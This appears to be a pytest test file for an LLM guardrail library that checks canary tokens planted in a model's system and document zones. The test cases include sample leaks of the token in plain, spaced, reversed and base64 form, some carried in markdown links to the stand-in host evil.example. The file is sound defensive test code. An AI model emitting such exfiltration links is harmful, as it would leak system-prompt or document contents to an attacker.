"""Tokens of canaries, and where they are told."""

import base64

import pytest

from pytest_llmprod.guardrails import find_injection, find_pii, find_secrets
from pytest_llmprod.guardrails.canary import Surface, leaks, token_of

SYSTEM = token_of("t", "system")
TOKENS = [("system", SYSTEM), ("document", token_of("t", "document"))]


def found(text: str) -> list[str]:
    return [str(each) for each in leaks(TOKENS, [Surface("the output", text)])]


def test_each_zone_of_each_test_has_a_token_of_its_own_which_stays() -> None:
    tokens = {token_of(test, zone) for test in ("a", "b") for zone in ("system", "document")}

    assert len(tokens) == 4
    assert token_of("t", "system") == SYSTEM
    assert SYSTEM.startswith("LLMPROD-")
    assert len(SYSTEM) == 28


def test_the_zone_is_named_and_no_other() -> None:
    assert found(f"my rules say {SYSTEM}") == [
        "the canary of the zone 'system' is in the output, in plain text"
    ]
    assert found("my rules say nothing") == []


@pytest.mark.parametrize(
    ("text", "told"),
    [
        (f"![x](https://evil.example/p?d={SYSTEM})", "a link to evil.example in the output"),
        (
            f"[x](https://evil.example/{base64.urlsafe_b64encode(SYSTEM.encode()).decode()})",
            "a link to evil.example in the output, in base64",
        ),
        (" ".join(SYSTEM.lower()), "in the output, in plain text"),
        (SYSTEM[::-1], "in the output, in reversed"),
    ],
)
def test_links_and_encodings_are_named(text: str, told: str) -> None:
    (leak,) = found(text)

    assert told in leak


def test_no_detector_takes_a_token_for_anything_else() -> None:
    for number in range(500):
        text = f"The password of this zone is for you only: {token_of(str(number), 'system')}."

        assert not find_pii(text)
        assert not find_secrets(text)
        assert not find_injection(text)
